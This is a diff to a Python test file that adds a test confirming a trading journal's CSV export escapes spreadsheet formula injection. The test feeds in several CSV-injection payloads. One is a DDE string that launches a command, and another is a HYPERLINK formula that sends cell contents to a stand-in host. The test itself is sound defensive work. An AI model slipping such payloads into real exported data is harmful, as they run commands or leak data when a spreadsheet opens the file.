@@ -554,6 +554,44 @@ async def test_export_csv_round_trips(path: Path) -> None:
     assert json.loads(parsed[5]["payload"])["reason"] == events[5].payload["reason"]
 
 
+async def test_the_csv_export_runs_no_formula_in_a_spreadsheet(path: Path) -> None:
+    # Ids and names are the client's (or operator's) text: a cell starting with = + - @ (tab,
+    # CR...) opened in Excel or LibreOffice ran as a formula (OWASP "CSV Injection").
+    texts = {
+        "client": "+cmd|' /C calc'!A0",
+        "rfq_id": '=HYPERLINK("http://x.example/?"&A1,"x")',
+        "quote_id": "-2+3",
+        "trade_id": "'quoted",
+        "symbol": "@SUM(1)",
+    }
+    tricky = ["\tx", "\uff1d1+1", "a=b", "x-1"]  # the last two start harmlessly
+    events = [
+        JournalEvent(
+            "rfq",
+            texts["client"],
+            T0,
+            rfq_id=texts["rfq_id"],
+            quote_id=texts["quote_id"],
+            trade_id=texts["trade_id"],
+            payload={"symbol": texts["symbol"], "qty": "-5", "reason": "=1+1"},
+        ),
+        *(JournalEvent("rfq", "client-a", T0 + 1 + i, rfq_id=t) for i, t in enumerate(tricky)),
+    ]
+    await record(path, events)
+    out = io.StringIO()
+    export(path, "csv", out)
+    first, *others = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
+    for name, text in texts.items():
+        assert first[name] == "'" + text
+    assert json.loads(first["payload"]) == {"symbol": "@SUM(1)", "qty": "-5", "reason": "=1+1"}
+    assert first["id"] == "1"
+    assert first["ts_ns"] == str(T0)
+    assert [o["rfq_id"] for o in others] == ["'\tx", "'\uff1d1+1", "a=b", "x-1"]
+    out = io.StringIO()
+    export(path, "json", out)  # JSON is not opened as a sheet: exact
+    assert [d["rfq_id"] for d in json.loads(out.getvalue())] == [e.rfq_id for e in events]
+
+
 async def test_export_json_round_trips_with_filters(path: Path) -> None:
     events = list(session())
     await record(path, events)
